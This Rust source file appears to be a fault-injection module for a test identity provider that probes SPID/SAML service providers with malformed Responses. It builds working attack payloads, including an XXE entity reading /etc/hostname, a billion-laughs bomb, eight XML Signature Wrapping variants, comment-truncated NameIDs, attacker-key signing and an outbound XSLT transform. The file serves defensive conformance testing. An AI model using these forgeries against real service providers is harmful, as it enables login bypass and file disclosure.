//! Fault injection: a plan the IdP carries out on its next Response. The IdP always builds the
//! honest Response first; the plan then edits the tree before signing, chooses what is signed
//! and with which key and algorithms, and edits the signed tree afterwards (wrapping attacks
//! live there). An edit that finds nothing to act on is a [`PlanError`] naming the stage, the
//! edit and what was missing: a case never goes out as the honest message under its name.

use chrono::{DateTime, Duration, Utc};
use serde::{Deserialize, Serialize};
use spid_core::errors::SpidError;
pub use spid_core::saml::dsig::{DigestMethod, SignatureMethod};
use spid_core::saml::xml::{self, Element, Limits, Node};
use spid_core::saml::{new_id, ns};
use spid_core::SpidLevel;

/// An element of the Response a mutation addresses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Target {
    /// samlp:Response.
    Response,
    /// Response saml:Issuer.
    ResponseIssuer,
    /// samlp:Status.
    Status,
    /// The top StatusCode.
    StatusCode,
    /// saml:Assertion.
    Assertion,
    /// Assertion saml:Issuer.
    AssertionIssuer,
    /// saml:Subject.
    Subject,
    /// saml:NameID.
    NameId,
    /// saml:SubjectConfirmation.
    SubjectConfirmation,
    /// saml:SubjectConfirmationData.
    SubjectConfirmationData,
    /// saml:Conditions.
    Conditions,
    /// saml:AudienceRestriction.
    AudienceRestriction,
    /// saml:Audience.
    Audience,
    /// saml:AuthnStatement.
    AuthnStatement,
    /// saml:AuthnContext.
    AuthnContext,
    /// saml:AuthnContextClassRef.
    AuthnContextClassRef,
    /// saml:AttributeStatement.
    AttributeStatement,
    /// The first saml:Attribute.
    FirstAttribute,
    /// The first saml:Attribute's first AttributeValue.
    FirstAttributeValue,
    /// The Assertion signature's SignatureMethod (an edit here breaks the signature: to sign
    /// with another algorithm use `sign.signature_method`).
    AssertionSignatureMethod,
    /// The Assertion signature's DigestMethod (an edit here breaks the signature: to sign
    /// with another digest use `sign.digest_method`).
    AssertionDigestMethod,
}

/// The kebab-case name a value has in the case files (`assertion-digest-method`).
fn toml_name<T: Serialize>(v: &T) -> String {
    match serde_json::to_value(v) {
        Ok(serde_json::Value::String(s)) => s,
        Ok(serde_json::Value::Object(o)) => o
            .get("op")
            .and_then(|x| x.as_str())
            .unwrap_or("?")
            .to_string(),
        _ => "?".into(),
    }
}

impl std::fmt::Display for Target {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&toml_name(self))
    }
}

impl Target {
    /// The path of (namespace, local name) steps from the Response.
    fn path(self) -> &'static [(&'static str, &'static str)] {
        use Target::*;
        const A: (&str, &str) = (ns::SAML, "Assertion");
        const S: (&str, &str) = (ns::SAML, "Subject");
        const SC: (&str, &str) = (ns::SAML, "SubjectConfirmation");
        const C: (&str, &str) = (ns::SAML, "Conditions");
        const AR: (&str, &str) = (ns::SAML, "AudienceRestriction");
        const AS: (&str, &str) = (ns::SAML, "AuthnStatement");
        const AC: (&str, &str) = (ns::SAML, "AuthnContext");
        const ATS: (&str, &str) = (ns::SAML, "AttributeStatement");
        const SIG: (&str, &str) = (ns::DS, "Signature");
        const SI: (&str, &str) = (ns::DS, "SignedInfo");
        match self {
            Response => &[],
            ResponseIssuer => &[(ns::SAML, "Issuer")],
            Status => &[(ns::SAMLP, "Status")],
            StatusCode => &[(ns::SAMLP, "Status"), (ns::SAMLP, "StatusCode")],
            Assertion => &[A],
            AssertionIssuer => &[A, (ns::SAML, "Issuer")],
            Subject => &[A, S],
            NameId => &[A, S, (ns::SAML, "NameID")],
            SubjectConfirmation => &[A, S, SC],
            SubjectConfirmationData => &[A, S, SC, (ns::SAML, "SubjectConfirmationData")],
            Conditions => &[A, C],
            AudienceRestriction => &[A, C, AR],
            Audience => &[A, C, AR, (ns::SAML, "Audience")],
            AuthnStatement => &[A, AS],
            AuthnContext => &[A, AS, AC],
            AuthnContextClassRef => &[A, AS, AC, (ns::SAML, "AuthnContextClassRef")],
            AttributeStatement => &[A, ATS],
            FirstAttribute => &[A, ATS, (ns::SAML, "Attribute")],
            FirstAttributeValue => &[
                A,
                ATS,
                (ns::SAML, "Attribute"),
                (ns::SAML, "AttributeValue"),
            ],
            AssertionSignatureMethod => &[A, SIG, SI, (ns::DS, "SignatureMethod")],
            AssertionDigestMethod => &[A, SIG, SI, (ns::DS, "Reference"), (ns::DS, "DigestMethod")],
        }
    }

    /// Finds the target in `root` (a Response).
    pub fn find_mut(self, root: &mut Element) -> Option<&mut Element> {
        let mut cur = root;
        for (n, l) in self.path() {
            cur = cur.child_mut(n, l)?;
        }
        Some(cur)
    }

    /// The target's parent and the target's position among the parent's children (None for
    /// the root or an absent target).
    fn parent_mut(self, root: &mut Element) -> Option<(&mut Element, usize)> {
        let ((n, l), parent_path) = self.path().split_last()?;
        let mut cur = root;
        for (pn, pl) in parent_path {
            cur = cur.child_mut(pn, pl)?;
        }
        let i = cur.child_index(n, l)?;
        Some((cur, i))
    }
}

/// Where [`Mutation::InsertXml`] puts its fragment, relative to the target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Position {
    /// After the target's last child.
    #[default]
    LastChild,
    /// Before the target's first child.
    FirstChild,
    /// Right before the target (not for the root).
    Before,
    /// Right after the target (not for the root).
    After,
}

/// One edit of the Response tree.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "kebab-case", deny_unknown_fields)]
pub enum Mutation {
    /// Sets (or adds) an attribute.
    SetAttr {
        /// Where.
        target: Target,
        /// Attribute name.
        name: String,
        /// New value.
        value: String,
    },
    /// Removes an attribute.
    RemoveAttr {
        /// Where.
        target: Target,
        /// Attribute name.
        name: String,
    },
    /// Replaces the element's content with text.
    SetText {
        /// Where.
        target: Target,
        /// New text.
        value: String,
    },
    /// Removes the element.
    Remove {
        /// What.
        target: Target,
    },
    /// Removes the element's children and text, keeping its attributes (an element already
    /// empty is a miss).
    Empty {
        /// What.
        target: Target,
    },
    /// Sets an attribute to the IdP's current time plus `offset` seconds.
    SetInstant {
        /// Where.
        target: Target,
        /// Attribute name.
        name: String,
        /// Seconds from now (negative: past).
        #[serde(default)]
        offset: i64,
        /// How many fractional digits.
        #[serde(default)]
        precision: Precision,
    },
    /// Removes attribute `name` from every element whose local name is `element` (a miss when
    /// no element carried it).
    RemoveAttrEverywhere {
        /// Local name of the elements.
        element: String,
        /// Attribute name.
        name: String,
    },
    /// Splits the target's text with a comment (`ab<!---->c`): XML canonicalisation drops
    /// comments, so a signature still verifies while naive text readers see a truncated value.
    /// The target must hold only text, at least two characters of it.
    InjectComment {
        /// Where.
        target: Target,
    },
    /// Appends a copy of the Assertion with a new ID after it (before signing, the IdP signs
    /// both copies; after signing, the copy carries a signature that no longer matches).
    DuplicateAssertion,
    /// XML Signature Wrapping, variants 1–8 (the SAML Raider numbering).
    Xsw {
        /// 1..=8.
        variant: u8,
    },
    /// Adds an XSLT transform to the Response signature's Transforms.
    XsltTransform,
    /// Puts a correctly signed foreign element (the IdP's own signed metadata) first in the
    /// Response, the signature-verification bypass of spid-saml-check 112/113.
    SignedForeignElement,
    /// Inserts an XML fragment at `at` (default: as the target's last child). The fragment is
    /// read by spid-core's strict parser with the `saml` and `samlp` prefixes declared (the
    /// Response declares them); any other prefix must be declared in the fragment. Before
    /// signing this is how a case adds content the signature covers.
    InsertXml {
        /// Where.
        target: Target,
        /// Relative to the target.
        #[serde(default)]
        at: Position,
        /// One or more elements (text between them is kept).
        xml: String,
    },
    /// Renames the element, keeping its prefix and namespace (`local = "LogoutResponse"`).
    Rename {
        /// What.
        target: Target,
        /// The new local name.
        local: String,
    },
}

/// Fractional-second digits of a generated instant.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Precision {
    /// `…:SS.mmmZ`.
    #[default]
    Millis,
    /// `…:SS.uuuuuuZ`.
    Micros,
    /// `…:SSZ`.
    Seconds,
}

/// An edit of the serialised document (what a tree cannot express).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "kebab-case", deny_unknown_fields)]
pub enum RawMutation {
    /// Prepends a DOCTYPE.
    Doctype {
        /// Which.
        kind: DoctypeKind,
    },
    /// Appends text after the root element.
    Append {
        /// What.
        text: String,
    },
    /// Prepends `<?xml version="1.0" encoding="UTF-8"?>`.
    XmlDeclaration,
    /// Replaces the first occurrence of `from` with `to`.
    ReplaceFirst {
        /// Text to find.
        from: String,
        /// Replacement.
        to: String,
    },
}

/// How the Response travels, when the binding itself is the fault.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum BindingFault {
    /// The SAMLResponse field is empty.
    Missing,
    /// SAMLResponse is not base64.
    NotBase64,
    /// SAMLResponse is base64 of bytes that are not UTF-8: the honest Response with an
    /// invalid sequence (`C3 28`) in its first text, the Issuer.
    NotUtf8,
    /// SAMLResponse decodes to more than a 256 KiB bound (300 KiB of padding).
    Oversize,
}

/// DOCTYPE payloads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum DoctypeKind {
    /// An external entity (XXE) referenced from the NameID.
    Xxe,
    /// Nested entity expansion ("billion laughs").
    BillionLaughs,
    /// A harmless internal subset, no entity used.
    Internal,
}

impl RawMutation {
    /// Applies the edit to the serialised document; an edit whose anchor text is absent, or
    /// that would change nothing, is an error (the case would otherwise send the honest
    /// message, or not the one it names, under its name).
    pub fn apply(&self, xml: &str) -> Result<String, RawMutationError> {
        let refuse = |why: &'static str| Err(RawMutationError::NoEffect(why));
        match self {
            RawMutation::Doctype { .. } if xml.contains("<!DOCTYPE") => {
                return refuse("the document already has a DOCTYPE")
            }
            RawMutation::XmlDeclaration if xml.trim_start().starts_with("<?xml ") => {
                return refuse("the document already has an XML declaration")
            }
            RawMutation::ReplaceFirst { from, to } if from == to => {
                return refuse("`from` and `to` are the same text")
            }
            RawMutation::Append { text } if text.is_empty() => return refuse("nothing to append"),
            _ => {}
        }
        let anchor = match self {
            RawMutation::Doctype {
                kind: DoctypeKind::Xxe | DoctypeKind::BillionLaughs,
            } => Some("</saml:NameID>"),
            RawMutation::ReplaceFirst { from, .. } => Some(from.as_str()),
            _ => None,
        };
        if let Some(a) = anchor {
            if !xml.contains(a) {
                return Err(RawMutationError::NotFound(a.to_string()));
            }
        }
        Ok(match self {
            RawMutation::Doctype { kind } => {
                let (dtd, body) = match kind {
                    DoctypeKind::Xxe => (
                        r#"<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>"#,
                        xml.replacen("</saml:NameID>", "&xxe;</saml:NameID>", 1),
                    ),
                    DoctypeKind::BillionLaughs => (
                        r#"<!DOCTYPE samlp:Response [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>"#,
                        xml.replacen("</saml:NameID>", "&f;</saml:NameID>", 1),
                    ),
                    DoctypeKind::Internal => (
                        r#"<!DOCTYPE samlp:Response [<!ELEMENT x ANY>]>"#,
                        xml.to_string(),
                    ),
                };
                format!("{dtd}{body}")
            }
            RawMutation::Append { text } => format!("{xml}{text}"),
            RawMutation::ReplaceFirst { from, to } => xml.replacen(from.as_str(), to, 1),
            RawMutation::XmlDeclaration => {
                format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{xml}")
            }
        })
    }
}

/// Why a raw edit could not be applied.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RawMutationError {
    /// The anchor text is not in the serialised document.
    #[error("text `{0}` not found in the serialised Response")]
    NotFound(String),
    /// The edit would change nothing, or not what it names.
    #[error("{0}")]
    NoEffect(&'static str),
}

/// Which key signs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum SigningKey {
    /// The IdP's own key (the one in its metadata).
    #[default]
    Idp,
    /// A foreign (attacker) key, its certificate in KeyInfo.
    Foreign,
}

/// What is signed, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct SignSpec {
    /// Sign the Assertion.
    pub assertion: bool,
    /// Sign the Response.
    pub response: bool,
    /// With which key.
    pub key: SigningKey,
    /// Which certificate travels in KeyInfo.
    pub keyinfo: KeyInfoCert,
    /// The SignatureMethod of every signature the IdP makes (default `rsa-sha256`). The
    /// signature is genuinely computed with it: `rsa-sha1` gives a valid SHA-1 signature.
    pub signature_method: SignatureMethod,
    /// The DigestMethod of every signature's Reference (default `sha256`), likewise genuine.
    pub digest_method: DigestMethod,
}

impl SignSpec {
    /// The algorithms for spid-core's signer.
    pub fn algorithms(&self) -> spid_core::saml::dsig::Algorithms {
        spid_core::saml::dsig::Algorithms {
            signature: self.signature_method,
            digest: self.digest_method,
        }
    }

    /// Nothing is signed.
    pub fn unsigned(&self) -> bool {
        !self.assertion && !self.response
    }
}

/// The certificate put in `ds:KeyInfo` (a verifier must ignore it and use metadata).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum KeyInfoCert {
    /// The signer's own certificate.
    #[default]
    Signer,
    /// The IdP's metadata certificate, whoever signs.
    Idp,
    /// The foreign certificate, whoever signs.
    Foreign,
    /// No KeyInfo.
    None,
}

impl Default for SignSpec {
    fn default() -> Self {
        SignSpec {
            assertion: true,
            response: true,
            key: SigningKey::Idp,
            keyinfo: KeyInfoCert::Signer,
            signature_method: SignatureMethod::default(),
            digest_method: DigestMethod::default(),
        }
    }
}

/// A plan for the next Response.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct FaultPlan {
    /// Grant this level instead of the honest one.
    pub level: Option<SpidLevel>,
    /// Answer with this SPID error instead of a login.
    pub status: Option<u8>,
    /// Edits before signing (the signature covers them).
    pub pre_sign: Vec<Mutation>,
    /// Signing.
    pub sign: SignSpec,
    /// Edits after signing (they break or dodge the signature).
    pub post_sign: Vec<Mutation>,
    /// Edits of the serialised document.
    pub raw: Vec<RawMutation>,
    /// Break the HTTP-POST binding itself.
    pub binding: Option<BindingFault>,
    /// Release exactly these attributes (placeholder values where the user has none),
    /// instead of the requested set.
    pub attributes: Option<Vec<String>>,
}

impl FaultPlan {
    /// The SPID error to answer with, if any.
    pub fn spid_error(&self) -> Option<SpidError> {
        self.status.map(SpidError)
    }

    /// Checks what can be checked before any Response exists: every `insert-xml` fragment
    /// parses. (Targets are checked when the plan runs, against the Response it edits.)
    pub fn check(&self) -> Result<(), PlanError> {
        for (stage, edits) in [
            (Stage::PreSign, &self.pre_sign),
            (Stage::PostSign, &self.post_sign),
        ] {
            for (i, m) in edits.iter().enumerate() {
                if let Mutation::InsertXml { xml, .. } = m {
                    fragment(xml).map_err(|e| PlanError::new(stage, i, m, e))?;
                }
            }
        }
        Ok(())
    }
}

/// The stage of a plan an edit belongs to, named as in the case files.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stage {
    /// `plan.pre_sign`.
    PreSign,
    /// `plan.post_sign`.
    PostSign,
    /// `plan.raw`.
    Raw,
}

impl std::fmt::Display for Stage {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Stage::PreSign => "plan.pre_sign",
            Stage::PostSign => "plan.post_sign",
            Stage::Raw => "plan.raw",
        })
    }
}

/// An edit of a plan that could not be carried out: the stage, the edit (1-based, as the
/// `[[plan.…]]` tables appear in the case file), its op and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{stage} edit #{number} ({op}): {reason}")]
pub struct PlanError {
    /// The stage.
    pub stage: Stage,
    /// 1-based position in the stage's list.
    pub number: usize,
    /// The op, as in the case file (`set-attr`).
    pub op: String,
    /// Why it missed.
    pub reason: String,
}

impl PlanError {
    fn new<T: Serialize>(stage: Stage, index: usize, edit: &T, reason: impl ToString) -> Self {
        PlanError {
            stage,
            number: index + 1,
            op: toml_name(edit),
            reason: reason.to_string(),
        }
    }
}

/// Applies the tree edits of `stage` in order; the first miss is the error.
pub fn apply_stage(
    root: &mut Element,
    stage: Stage,
    edits: &[Mutation],
    ctx: &MutationCtx<'_>,
) -> Result<(), PlanError> {
    for (i, m) in edits.iter().enumerate() {
        apply(root, m, ctx).map_err(|e| PlanError::new(stage, i, m, e))?;
    }
    Ok(())
}

/// Applies the raw edits in order; the first miss is the error.
pub fn apply_raw(mut xml: String, edits: &[RawMutation]) -> Result<String, PlanError> {
    for (i, r) in edits.iter().enumerate() {
        xml = r
            .apply(&xml)
            .map_err(|e| PlanError::new(Stage::Raw, i, r, e))?;
    }
    Ok(xml)
}

/// Why a mutation could not be applied to this Response.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum MutationError {
    /// The target element is absent.
    #[error("target `{0}` not present")]
    Missing(Target),
    /// The target is there but the edit would change nothing or cannot act on it.
    #[error("target `{0}`: {1}")]
    Unusable(Target, String),
    /// Something else the edit needs is absent (a signature, the signed foreign element…).
    #[error("{0}")]
    Needs(String),
}

/// What mutations may need besides the tree.
#[derive(Debug, Clone, Copy)]
pub struct MutationCtx<'a> {
    /// The IdP's current time.
    pub now: DateTime<Utc>,
    /// A correctly signed foreign element (for [`Mutation::SignedForeignElement`]).
    pub signed_foreign: Option<&'a Element>,
}

fn find(root: &mut Element, t: Target) -> Result<&mut Element, MutationError> {
    t.find_mut(root).ok_or(MutationError::Missing(t))
}

fn instant(now: DateTime<Utc>, offset: i64, p: Precision) -> String {
    let t = now + Duration::seconds(offset);
    match p {
        Precision::Millis => t.format("%Y-%m-%dT%H:%M:%S%.3fZ"),
        Precision::Micros => t.format("%Y-%m-%dT%H:%M:%S%.6fZ"),
        Precision::Seconds => t.format("%Y-%m-%dT%H:%M:%SZ"),
    }
    .to_string()
}

/// The wrapper [`Mutation::InsertXml`] parses its fragment in.
const FRAGMENT_WRAPPER: &str = "spid-harness-fragment";

/// Why an `insert-xml` fragment cannot be inserted.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FragmentError {
    /// Not well-formed (or beyond the parser's bounds).
    #[error("fragment: {0}")]
    Xml(String),
    /// Text only, no element.
    #[error("fragment has no element")]
    NoElement,
}

/// Parses an `insert-xml` fragment into the nodes to insert.
fn fragment(text: &str) -> Result<Vec<Node>, FragmentError> {
    let wrapped = format!(
        "<{FRAGMENT_WRAPPER} xmlns:saml=\"{}\" xmlns:samlp=\"{}\">{text}</{FRAGMENT_WRAPPER}>",
        ns::SAML,
        ns::SAMLP
    );
    let limits = Limits {
        max_bytes: 1 << 20,
        max_depth: 1024,
        max_elements: 1 << 16,
        ..Limits::default()
    };
    let w = xml::parse(&wrapped, &limits).map_err(|e| FragmentError::Xml(e.to_string()))?;
    if w.elements().next().is_none() {
        return Err(FragmentError::NoElement);
    }
    Ok(w.children)
}

/// Applies `m` to `root`; an edit that would find nothing to act on is an error.
pub fn apply(root: &mut Element, m: &Mutation, ctx: &MutationCtx<'_>) -> Result<(), MutationError> {
    match m {
        Mutation::SetAttr {
            target,
            name,
            value,
        } => set_attr(find(root, *target)?, *target, name, value.clone())?,
        Mutation::RemoveAttr { target, name } => {
            if !find(root, *target)?.remove_attr(name) {
                return Err(MutationError::Unusable(
                    *target,
                    format!("has no attribute {name}"),
                ));
            }
        }
        Mutation::SetText { target, value } => {
            let el = find(root, *target)?;
            if el.elements().next().is_none() && el.text() == *value {
                return Err(MutationError::Unusable(
                    *target,
                    format!("already holds the text {value:?}"),
                ));
            }
            el.set_text(value.clone());
        }
        Mutation::Empty { target } => {
            let el = find(root, *target)?;
            if el.children.is_empty() {
                return Err(MutationError::Unusable(*target, "already empty".into()));
            }
            el.children.clear();
        }
        Mutation::Remove { target } => {
            let (parent, i) = target
                .parent_mut(root)
                .ok_or(MutationError::Missing(*target))?;
            parent.children.remove(i);
        }
        Mutation::SetInstant {
            target,
            name,
            offset,
            precision,
        } => {
            let v = instant(ctx.now, *offset, *precision);
            set_attr(find(root, *target)?, *target, name, v)?;
        }
        Mutation::RemoveAttrEverywhere { element, name } => {
            if remove_everywhere(root, element, name) == 0 {
                return Err(MutationError::Needs(format!(
                    "no {element} element carries attribute {name}"
                )));
            }
        }
        Mutation::InjectComment { target } => {
            let el = find(root, *target)?;
            if el.elements().next().is_some() {
                return Err(MutationError::Unusable(
                    *target,
                    "holds elements, not only text".into(),
                ));
            }
            let text = el.text();
            let chars = text.chars().count();
            if chars < 2 {
                return Err(MutationError::Unusable(
                    *target,
                    format!("text {text:?} is too short to split"),
                ));
            }
            let cut = text
                .char_indices()
                .nth(chars - 1)
                .map(|(i, _)| i)
                .unwrap_or(text.len());
            let (a, b) = text.split_at(cut);
            el.children = vec![
                Node::Text(a.into()),
                Node::Comment(String::new()),
                Node::Text(b.into()),
            ];
        }
        Mutation::DuplicateAssertion => {
            let i = root
                .child_index(ns::SAML, "Assertion")
                .ok_or(MutationError::Missing(Target::Assertion))?;
            let mut copy = assertion_at(root, i).clone();
            copy.set_attr("ID", new_id());
            root.children.insert(i + 1, Node::Element(copy));
        }
        Mutation::Xsw { variant } => xsw(root, *variant)?,
        Mutation::XsltTransform => {
            let transforms = root
                .child_mut(ns::DS, "Signature")
                .and_then(|sig| sig.child_mut(ns::DS, "SignedInfo"))
                .and_then(|si| si.child_mut(ns::DS, "Reference"))
                .and_then(|r| r.child_mut(ns::DS, "Transforms"))
                .ok_or_else(|| {
                    MutationError::Needs(
                        "the Response signature (with Reference Transforms) is not present: \
                         sign the Response"
                            .into(),
                    )
                })?;
            let xsl = Element::new(
                "xsl:stylesheet",
                Some("http://www.w3.org/1999/XSL/Transform"),
            )
            .with_attr("xmlns:xsl", "http://www.w3.org/1999/XSL/Transform")
            .with_attr("version", "1.0")
            .with_child(
                Element::new("xsl:template", Some("http://www.w3.org/1999/XSL/Transform"))
                    .with_attr("match", "doc")
                    .with_child(
                        Element::new("xsl:variable", Some("http://www.w3.org/1999/XSL/Transform"))
                            .with_attr("name", "x")
                            .with_attr("select", "unparsed-text('http://127.0.0.1:9/xslt')"),
                    ),
            );
            transforms.children.push(Node::Element(
                Element::new("ds:Transform", Some(ns::DS))
                    .with_attr("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
                    .with_child(xsl),
            ));
        }
        Mutation::SignedForeignElement => {
            let el = ctx
                .signed_foreign
                .ok_or_else(|| {
                    MutationError::Needs(
                        "no signed foreign element (IdP metadata) available".into(),
                    )
                })?
                .clone();
            root.children.insert(0, Node::Element(el));
        }
        Mutation::InsertXml { target, at, xml } => {
            let nodes = fragment(xml).map_err(|e| MutationError::Needs(e.to_string()))?;
            match at {
                Position::LastChild => find(root, *target)?.children.extend(nodes),
                Position::FirstChild => {
                    find(root, *target)?.children.splice(0..0, nodes);
                }
                Position::Before | Position::After => {
                    if *target == Target::Response {
                        return Err(MutationError::Unusable(
                            *target,
                            "the root has no siblings in the tree (use a raw edit)".into(),
                        ));
                    }
                    let (parent, i) = target
                        .parent_mut(root)
                        .ok_or(MutationError::Missing(*target))?;
                    let at = if *at == Position::Before { i } else { i + 1 };
                    parent.children.splice(at..at, nodes);
                }
            }
        }
        Mutation::Rename { target, local } => {
            let el = find(root, *target)?;
            if el.local() == local {
                return Err(MutationError::Unusable(
                    *target,
                    format!("is already named {local}"),
                ));
            }
            el.qname = match el.prefix() {
                Some(p) => format!("{p}:{local}"),
                None => local.clone(),
            };
        }
    }
    Ok(())
}

/// Sets an attribute; setting the value it already has is a miss (the honest message).
fn set_attr(el: &mut Element, t: Target, name: &str, value: String) -> Result<(), MutationError> {
    if el.attr(name) == Some(value.as_str()) {
        return Err(MutationError::Unusable(
            t,
            format!("already has {name}={value:?}"),
        ));
    }
    el.set_attr(name, value);
    Ok(())
}

/// Removes the attribute everywhere; returns how many elements carried it.
fn remove_everywhere(el: &mut Element, local: &str, name: &str) -> usize {
    let mut n = usize::from(el.local() == local && el.remove_attr(name));
    for c in el.elements_mut() {
        n += remove_everywhere(c, local, name);
    }
    n
}

fn assertion_at(root: &Element, i: usize) -> &Element {
    match &root.children[i] {
        Node::Element(e) => e,
        _ => unreachable!("child_index returns element positions"),
    }
}

/// An attacker's copy of `a`: new ID, another NameID, no signature.
fn evil_copy(a: &Element) -> Result<Element, MutationError> {
    let mut e = a.clone();
    e.set_attr("ID", new_id());
    strip_signature(&mut e);
    e.child_mut(ns::SAML, "Subject")
        .and_then(|s| s.child_mut(ns::SAML, "NameID"))
        .ok_or(MutationError::Missing(Target::NameId))?
        .set_text("_evil-attacker-subject");
    Ok(e)
}

fn needs_signature(of: &str) -> MutationError {
    MutationError::Needs(format!("the {of} signature is not present: sign the {of}"))
}

fn xsw(root: &mut Element, variant: u8) -> Result<(), MutationError> {
    if !(1..=8).contains(&variant) {
        return Err(MutationError::Needs(format!(
            "XSW variant {variant} does not exist (1..=8)"
        )));
    }
    let i = root
        .child_index(ns::SAML, "Assertion")
        .ok_or(MutationError::Missing(Target::Assertion))?;
    let original = assertion_at(root, i).clone();
    let assertion_signed = original.child(ns::DS, "Signature").is_some();
    match variant {
        // 1, 2: a forged Response around (1) or beside (2) the original signed Response.
        1 | 2 => {
            let signed = root.clone();
            let mut evil = root.clone();
            evil.set_attr("ID", new_id());
            evil.children[i] = Node::Element(evil_copy(&original)?);
            let si = evil
                .child_index(ns::DS, "Signature")
                .ok_or_else(|| needs_signature("Response"))?;
            if variant == 1 {
                if let Node::Element(sig) = &mut evil.children[si] {
                    sig.children.push(Node::Element(signed));
                }
            } else {
                evil.children.insert(si, Node::Element(signed));
            }
            *root = evil;
        }
        // 3: evil Assertion before the signed one.
        3 => root
            .children
            .insert(i, Node::Element(evil_copy(&original)?)),
        // 4: the signed Assertion nested inside the evil one.
        4 => {
            let mut evil = evil_copy(&original)?;
            evil.children.push(Node::Element(original));
            root.children[i] = Node::Element(evil);
        }
        // 5: the original signature moved into an evil copy; the original, unsigned, after it.
        5 => {
            if !assertion_signed {
                return Err(needs_signature("Assertion"));
            }
            let mut evil = original.clone();
            evil.child_mut(ns::SAML, "Subject")
                .and_then(|s| s.child_mut(ns::SAML, "NameID"))
                .ok_or(MutationError::Missing(Target::NameId))?
                .set_text("_evil-attacker-subject");
            let mut orig = original;
            strip_signature(&mut orig);
            orig.set_attr("ID", new_id());
            root.children[i] = Node::Element(evil);
            root.children.insert(i + 1, Node::Element(orig));
        }
        // 6: the evil Assertion inside the original Assertion's signature.
        6 => {
            let evil = evil_copy(&original)?;
            let mut orig = original;
            orig.child_mut(ns::DS, "Signature")
                .ok_or_else(|| needs_signature("Assertion"))?
                .children
                .push(Node::Element(evil));
            root.children[i] = Node::Element(orig);
        }
        // 7: the signed Assertion hidden in an Extensions element, the evil one in its place.
        7 => {
            let at = root
                .child_index(ns::SAMLP, "Status")
                .ok_or(MutationError::Missing(Target::Status))?;
            root.children[i] = Node::Element(evil_copy(&original)?);
            let ext = Element::new("samlp:Extensions", Some(ns::SAMLP)).with_child(original);
            root.children.insert(at, Node::Element(ext));
        }
        // 8: the evil Assertion carries the original signature, the original in a ds:Object.
        _ => {
            let mut evil = evil_copy(&original)?;
            let mut sig = original
                .child(ns::DS, "Signature")
                .cloned()
                .ok_or_else(|| needs_signature("Assertion"))?;
            let mut orig = original;
            strip_signature(&mut orig);
            sig.children.push(Node::Element(
                Element::new("ds:Object", Some(ns::DS)).with_child(orig),
            ));
            let at = evil
                .child_index(ns::SAML, "Issuer")
                .map(|x| x + 1)
                .unwrap_or(0);
            evil.children.insert(at, Node::Element(sig));
            root.children[i] = Node::Element(evil);
        }
    }
    Ok(())
}

/// Removes `ds:Signature` children of an element (used when a part must stay unsigned).
pub fn strip_signature(el: &mut Element) {
    el.children
        .retain(|n| !matches!(n, Node::Element(e) if e.is(ns::DS, "Signature")));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn resp() -> Element {
        Element::new("samlp:Response", Some(ns::SAMLP)).with_child(
            Element::new("saml:Assertion", Some(ns::SAML))
                .with_attr("ID", "_a")
                .with_child(
                    Element::new("saml:Subject", Some(ns::SAML))
                        .with_child(Element::new("saml:NameID", Some(ns::SAML)).with_text("n1")),
                )
                .with_child(
                    Element::new("saml:Conditions", Some(ns::SAML)).with_child(
                        Element::new("saml:AudienceRestriction", Some(ns::SAML)).with_child(
                            Element::new("saml:Audience", Some(ns::SAML)).with_text("sp"),
                        ),
                    ),
                ),
        )
    }

    fn ap(r: &mut Element, m: Mutation) -> Result<(), MutationError> {
        apply(
            r,
            &m,
            &MutationCtx {
                now: spid_core::clock::now(),
                signed_foreign: None,
            },
        )
    }

    #[test]
    fn set_text_remove_and_missing_target() {
        let mut r = resp();
        ap(
            &mut r,
            Mutation::SetText {
                target: Target::Audience,
                value: "evil".into(),
            },
        )
        .unwrap();
        assert_eq!(Target::Audience.find_mut(&mut r).unwrap().text(), "evil");
        ap(
            &mut r,
            Mutation::Remove {
                target: Target::AudienceRestriction,
            },
        )
        .unwrap();
        assert!(Target::Audience.find_mut(&mut r).is_none());
        assert_eq!(
            ap(
                &mut r,
                Mutation::Remove {
                    target: Target::Audience
                }
            ),
